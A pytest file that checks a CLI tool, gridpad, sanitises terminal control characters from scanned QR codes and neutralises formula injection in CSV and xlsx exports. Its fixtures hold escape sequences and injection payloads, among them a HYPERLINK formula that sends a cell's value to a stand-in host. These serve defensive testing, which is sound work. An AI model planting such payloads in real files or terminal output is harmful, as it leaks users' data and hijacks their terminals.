"""What `gridpad` writes for people is safe to open (issue #9, item 15): `scan --raw` never sends a
raw control character to the terminal, whichever backend read the code, and CSV/xlsx exports
never hand a spreadsheet a formula to run, while numbers stay numbers and jsonl stays exact."""

from __future__ import annotations

import csv
import json
import zipfile
from collections.abc import Sequence
from pathlib import Path

import openpyxl
import pytest
import qrcode
from support.cli import GRID, grid_line, gridpad, jsonl

HOSTILE = "plate\x1b[2J\x1b]0;owned\x07ok\t中文\x7f\x9b"
SHOWN = "plate<ESC>[2J<ESC>]0;owned<BEL>ok<HT>中文<DEL><U+9B>"


@pytest.mark.parametrize("backend", ["zbar", "zxing"])
def test_scan_raw_writes_control_characters_out_by_name(tmp_path: Path, backend: str) -> None:
    image = tmp_path / "code.png"
    with image.open("wb") as f:
        qrcode.make(HOSTILE.encode()).save(f)
    r = gridpad(tmp_path / "data", "scan", "--raw", "--backend", backend, str(image))
    assert r.returncode == 0, r.stderr
    assert r.stdout == SHOWN + "\n"


FORMULAS = {
    "address": '=HYPERLINK("http://x.example/?"&A1,"点我")',
    "road": "+1",
    "door_no": "-5号",
    "name": "@SUM(1)",
}


@pytest.fixture
def data(tmp_path: Path) -> Path:
    d = tmp_path / "data"
    building = {"table": "building", "id": "b-1",
                "fields": {"grid_id": GRID, **FORMULAS, "lat": -22.5, "lng": -113.7, "floors_above": 3}}
    r = gridpad(d, "apply", str(jsonl(tmp_path / "e.jsonl", grid_line(), building)))
    assert r.returncode == 0, r.stdout + r.stderr
    return d


def _by_column(header: Sequence[object], row: Sequence[object]) -> dict[str, object]:
    return {str(h).rsplit(" ", 1)[-1]: v for h, v in zip(header, row, strict=True)}


@pytest.mark.parametrize("zipped", [False, True], ids=["folder", "zip"])
def test_csv_export_quotes_formulas_and_leaves_numbers(data: Path, tmp_path: Path, zipped: bool) -> None:
    out = tmp_path / ("out.zip" if zipped else "out")
    r = gridpad(data, "export", "--format", "csv", "--out", str(out))
    assert r.returncode == 0, r.stderr
    text = (zipfile.ZipFile(out).read("building.csv").decode("utf-8") if zipped
            else (out / "building.csv").read_text(encoding="utf-8"))
    header, row = list(csv.reader(text.lstrip("\ufeff").splitlines()))
    cells = _by_column(header, row)
    assert {k: cells[k] for k in FORMULAS} == {k: "'" + v for k, v in FORMULAS.items()}
    assert (cells["lat"], cells["lng"], cells["floors_above"]) == ("-22.5", "-113.7", "3")


def test_xlsx_export_quotes_formulas_and_keeps_number_cells(data: Path, tmp_path: Path) -> None:
    out = tmp_path / "out.xlsx"
    assert gridpad(data, "export", "--format", "xlsx", "--out", str(out)).returncode == 0
    sheet = openpyxl.load_workbook(out)["楼栋"]
    header, row = (list(r) for r in sheet.iter_rows(values_only=True))
    cells = _by_column([str(h) for h in header], row)
    assert {k: cells[k] for k in FORMULAS} == {k: "'" + v for k, v in FORMULAS.items()}
    assert (cells["lat"], cells["lng"], cells["floors_above"]) == (-22.5, -113.7, 3)
    assert not any(c.data_type == "f" for line in sheet.iter_rows() for c in line)  # no formula cell


def test_jsonl_export_stays_exact(data: Path) -> None:
    r = gridpad(data, "export")
    assert r.returncode == 0, r.stderr
    building = next(x for x in map(json.loads, r.stdout.splitlines()) if x["table"] == "building")
    assert {k: building["fields"][k] for k in FORMULAS} == FORMULAS
    assert building["fields"]["lng"] == -113.7
